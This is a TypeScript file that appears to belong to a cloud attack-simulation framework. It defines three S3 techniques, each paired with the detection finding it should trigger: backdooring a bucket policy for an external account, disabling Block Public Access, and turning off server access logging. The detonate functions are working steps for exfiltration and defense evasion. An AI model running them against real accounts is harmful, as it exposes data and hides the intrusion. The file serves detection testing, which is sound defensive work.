/** Weakening a bucket's protections: a policy for another account, Block Public Access off, access logging off. */
import { PutBucketLoggingCommand, PutPublicAccessBlockCommand } from '@aws-sdk/client-s3';
import { EXTERNAL_PRINCIPAL } from '../fixtures/iam.js';
import { createBucket, putBucketPolicy } from '../fixtures/s3.js';
import { technique } from '../technique.js';

export const s3BackdoorBucketPolicy = technique<string>({
  id: 'aws.exfiltration.s3-backdoor-bucket-policy',
  title: 'Backdoor an S3 Bucket via its Bucket Policy',
  source: 'stratus',
  tactics: ['Exfiltration'],
  expectedFindingTypes: ['Exfiltration:S3/TransferDataToCloudAccount'],
  setup: (context) => createBucket(context, 'backdoored'),
  async detonate({ attacker }, bucket) {
    await putBucketPolicy(attacker.s3, bucket, [
      {
        Effect: 'Allow',
        Principal: { AWS: EXTERNAL_PRINCIPAL },
        Action: ['s3:GetObject', 's3:GetBucketLocation', 's3:ListBucket'],
        Resource: [`arn:aws:s3:::${bucket}`, `arn:aws:s3:::${bucket}/*`],
      },
    ]);
  },
});

const ALL_BLOCKED = { BlockPublicAcls: true, IgnorePublicAcls: true, BlockPublicPolicy: true, RestrictPublicBuckets: true };
const NONE_BLOCKED = { BlockPublicAcls: false, IgnorePublicAcls: false, BlockPublicPolicy: false, RestrictPublicBuckets: false };

export const s3BlockPublicAccessDisabled = technique<string>({
  id: 'aws.defense-evasion.s3-block-public-access-disabled',
  title: "Disable a Bucket's S3 Block Public Access",
  source: 'bulwark',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: ['Policy:S3/BucketBlockPublicAccessDisabled'],
  async setup(context) {
    const bucket = await createBucket(context, 'protected');
    await context.operator.s3.send(new PutPublicAccessBlockCommand({ Bucket: bucket, PublicAccessBlockConfiguration: ALL_BLOCKED }));
    return bucket;
  },
  async detonate({ attacker }, bucket) {
    await attacker.s3.send(new PutPublicAccessBlockCommand({ Bucket: bucket, PublicAccessBlockConfiguration: NONE_BLOCKED }));
  },
});

export const s3AccessLoggingDisabled = technique<string>({
  id: 'aws.defense-evasion.s3-server-access-logging-disabled',
  title: 'Disable S3 Server Access Logging',
  source: 'bulwark',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: ['Stealth:S3/ServerAccessLoggingDisabled'],
  async setup(context) {
    const logs = await createBucket(context, 'access-logs');
    await putBucketPolicy(context.operator.s3, logs, [
      { Effect: 'Allow', Principal: { Service: 'logging.s3.amazonaws.com' }, Action: 's3:PutObject', Resource: `arn:aws:s3:::${logs}/*` },
    ]);
    const bucket = await createBucket(context, 'logged');
    await context.operator.s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: { LoggingEnabled: { TargetBucket: logs, TargetPrefix: 'logs/' } } }));
    return bucket;
  },
  async detonate({ attacker }, bucket) {
    await attacker.s3.send(new PutBucketLoggingCommand({ Bucket: bucket, BucketLoggingStatus: {} }));
  },
});
